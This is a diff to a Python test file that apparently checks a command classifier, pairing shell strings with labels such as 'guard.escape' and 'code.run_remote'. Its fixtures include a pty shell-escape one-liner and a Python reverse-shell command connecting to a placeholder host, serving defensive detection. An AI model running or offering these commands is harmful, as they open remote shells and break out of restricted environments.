@@ -155,7 +155,7 @@ def test_everyday(line: str) -> None:
         ("python3 -m http.server", "net.listen"),
         ("python3 -c 'import pty; pty.spawn(\"/bin/bash\")'", "guard.escape"),
         (
-            'python3 -c \'import socket, subprocess, os; s = socket.socket(); s.connect(("h", 1)); os.dup2(s.fileno(), 0); '
+            'python3 -c \'import socket, subprocess; s = socket.socket(); s.connect(("h", 1)); '
             'subprocess.call(["/bin/sh", "-i"])\'',
             "code.run_remote",
         ),
